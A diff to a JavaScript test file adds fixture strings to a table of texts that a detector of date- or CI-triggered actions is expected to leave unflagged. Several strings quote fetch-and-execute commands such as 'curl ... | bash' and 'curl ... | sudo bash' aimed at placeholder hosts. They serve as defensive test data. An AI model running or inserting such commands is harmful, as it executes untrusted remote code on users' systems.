@@ -68,6 +68,14 @@ describe("the same triggers on ordinary steps, or a prohibition, stay quiet", ()
     ["tests then publish", "Once the tests pass, the release job runs `npm publish` and tags the commit."],
     ["a date and a version", "Starting 2027-02-01, the cluster runs Kubernetes 1.31; use kubectl 1.31 then."],
     ["fetched code forbidden", "Only on CI? No: never pipe `curl https://x.example/i.sh | bash`, on CI or anywhere."],
+    [
+      "a write-up of a triggered payload",
+      "Release 4.2.1 of the helper shipped a payload: starting 2027-06-01 its setup ran `curl -s https://tb.example/x.sh | bash`.",
+    ],
+    [
+      "an advisory quoting a CI-only step",
+      "Advisory: only on CI, the compromised action runs `curl -sL https://ci-drop.example/s.sh | sudo bash` each build.",
+    ],
   ])("%s", (_n, text) => {
     expect(declaredAct26(view(text))).toBeNull();
   });
